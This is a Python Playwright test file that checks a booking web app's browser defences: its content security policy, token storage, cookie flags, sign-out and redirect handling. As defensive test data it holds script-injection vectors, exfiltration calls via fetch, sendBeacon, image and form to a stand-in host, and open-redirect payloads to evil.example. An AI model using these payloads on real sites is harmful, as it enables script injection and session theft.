"""A script that somebody brought into the page does not run; if it ran, it would find no session to carry away."""

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Page, Response, Route, expect

from tests.journeys.browser.visitor import Visitor, Welcome, sign_in
from tests.journeys.market import Market
from tests.journeys.offers import a_room

REFRESH = "pupitre_refresh"
# Each way in leaves its name in `ran`. Not eval: the browser's debugger, which sends this, may always use it.
BRING_IN = """(elsewhere) => {
    window.ran = []
    const put = (tag, attributes, text) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        if (text) element.textContent = text
        document.body.append(element)
        return element
    }
    put('script', {}, "ran.push('inline')")
    put('script', {src: `${elsewhere}/script.js`})
    put('img', {src: 'data:,', onerror: "ran.push('handler')"})
    put('a', {href: "javascript:void ran.push('link')"}, 'link').click()
    put('iframe', {srcdoc: "<script>parent.ran.push('frame')<" + "/script>"})
    setTimeout("ran.push('words')", 0)
}"""
WAYS_IN = {"inline", "outside", "handler", "link", "frame", "words"}
CARRY_AWAY = """async (elsewhere) => {
    const sent = [fetch(`${elsewhere}/fetch`, {mode: 'no-cors'}).then(() => 'fetch', () => '')]
    navigator.sendBeacon(`${elsewhere}/beacon`, 'x')
    new Image().src = `${elsewhere}/image`
    const form = document.createElement('form')
    form.action = `${elsewhere}/form`
    document.body.append(form)
    form.submit()
    return (await Promise.all(sent)).filter(Boolean)
}"""
WHAT_SCRIPTS_CAN_READ = """async () => JSON.stringify([
    {...localStorage}, {...sessionStorage}, document.cookie, history.state, location.href,
    document.documentElement.outerHTML, window.name, await caches.keys(),
    (await indexedDB.databases()).map((base) => base.name),
])"""
RUN_MS = 500


class Elsewhere:
    """Another site, which serves a script and notes what is sent to it."""

    def __init__(self) -> None:
        asked: list[str] = []
        self.asked = asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(b"ran.push('outside')")

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    threading.Thread(target=site.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield site
    site.server.shutdown()
    site.server.server_close()


def test_a_script_that_was_brought_into_a_page_does_not_run(
    welcome: Welcome, market: Market, elsewhere: Elsewhere
) -> None:
    visitor = welcome(market.coworker)
    for path in ("/", "/reservations", "/mon-compte"):
        assert _what_ran(visitor.open(path).page, elsewhere) == set(), path
    assert elsewhere.asked == []


def test_it_is_the_policy_that_keeps_it_from_running(welcome: Welcome, market: Market, elsewhere: Elsewhere) -> None:
    page = welcome(market.coworker, protected=False).open("/").page
    assert _what_ran(page, elsewhere) == WAYS_IN


def test_nothing_is_sent_to_another_site(welcome: Welcome, market: Market, elsewhere: Elsewhere) -> None:
    page = welcome(market.coworker).open("/").page
    assert page.evaluate(CARRY_AWAY, elsewhere.url) == []
    page.wait_for_timeout(RUN_MS)
    assert elsewhere.asked == []


def test_no_script_can_read_a_token(welcome: Welcome, market: Market) -> None:
    visitor = welcome()
    tokens = _signed_in_on_screen(visitor, market)
    visitor.open("/reservations").title("Mes réservations")
    readable = str(visitor.page.evaluate(WHAT_SCRIPTS_CAN_READ))
    assert "pupitre.signed-in" in readable
    for token in tokens:
        assert len(token) > 100
        # Its signature, too: nothing else of the page looks like it.
        assert token not in readable
        assert token.rsplit(".", 1)[1] not in readable


def test_the_refresh_token_lives_in_a_cookie_that_only_the_session_doors_get(
    welcome: Welcome, market: Market
) -> None:
    visitor = welcome()
    _signed_in_on_screen(visitor, market)
    [cookie] = visitor.context.cookies()
    assert cookie["name"] == REFRESH
    assert cookie["httpOnly"] is True
    assert cookie["sameSite"] == "Strict"
    assert cookie["path"] == "/api/v1/auth"
    assert visitor.page.evaluate("document.cookie") == ""


def test_after_signing_out_the_refresh_token_is_dead(welcome: Welcome, market: Market) -> None:
    visitor = welcome()
    _signed_in_on_screen(visitor, market)
    token = str(visitor.context.cookies()[0]["value"])
    assert _refresh(market, token).status_code == 200
    visitor.page.get_by_role("button", name=re.compile("^Mon compte")).click()
    with visitor.page.expect_response("**/auth/sign-out"):
        visitor.page.get_by_role("menuitem", name="Se déconnecter").click()
    refused = _refresh(market, token)
    assert (refused.status_code, refused.json()["code"]) == (401, "session_over")
    assert visitor.context.cookies() == []


@pytest.mark.parametrize("address", ["//evil.example/x", "/.//evil.example/x", "javascript:alert(1)"])
def test_signing_in_never_leads_to_another_site(welcome: Welcome, market: Market, address: str) -> None:
    visitor = welcome()
    left: list[str] = []
    visitor.context.route("**://evil.example/**", lambda route: _note(route, left))
    visitor.open(f"/connexion?next={quote(address, safe='')}")
    sign_in(visitor, market.coworker)
    visitor.title("Trouver un espace")
    assert visitor.page.url == f"{market.product.url}/"
    assert left == []
    visitor.hears_nothing_wrong()


def test_signing_in_leads_back_to_the_page_that_asked_for_it(welcome: Welcome, market: Market) -> None:
    visitor = welcome()
    visitor.open("/connexion?next=%2Freservations%3Fstatus%3Dconfirmed")
    sign_in(visitor, market.coworker)
    visitor.title("Mes réservations")
    assert visitor.page.url == f"{market.product.url}/reservations?status=confirmed"


@pytest.mark.parametrize("address", ["https://evil.example/pay/cs_1", "javascript:alert(1)"])
def test_a_payment_page_elsewhere_is_not_gone_to(welcome: Welcome, market: Market, address: str) -> None:
    offer = market.offer(a_room())
    booking = market.book(market.coworker, offer, offer.body(market.day(), "10:00", "11:00"))
    visitor = welcome(market.coworker)
    left: list[str] = []
    visitor.context.route(re.compile(r"https://.*evil\.example/.*"), lambda route: _note(route, left))
    answer = json.dumps({"checkout_url": address})
    visitor.context.route("**/checkout", lambda route: route.fulfill(content_type="application/json", body=answer))
    page = visitor.open(f"/reservations/{booking['id']}").page
    visitor.click("Reprendre le paiement")
    expect(page.get_by_role("alert").filter(has_text="Une erreur inattendue")).to_be_visible()
    assert page.url == f"{market.product.url}/reservations/{booking['id']}"
    assert left == []


def _what_ran(page: Page, elsewhere: Elsewhere) -> set[str]:
    page.evaluate(BRING_IN, elsewhere.url)
    page.wait_for_timeout(RUN_MS)
    return set(page.evaluate("ran"))


def _signed_in_on_screen(visitor: Visitor, market: Market) -> list[str]:
    """The two tokens of the session that signing in on the page opened."""
    visitor.open("/connexion")
    with visitor.page.expect_response("**/auth/sign-in") as told:
        sign_in(visitor, market.coworker)
    answer: Response = told.value
    access = str(answer.json()["access_token"])
    visitor.title("Trouver un espace")
    return [access, str(visitor.context.cookies()[0]["value"])]


def _refresh(market: Market, token: str) -> requests.Response:
    cookie = {"Cookie": f"{REFRESH}={token}"}
    return requests.post(f"{market.product.url}/api/v1/auth/refresh", headers=cookie, timeout=10)


def _note(route: Route, left: list[str]) -> None:
    left.append(route.request.url)
    route.abort()
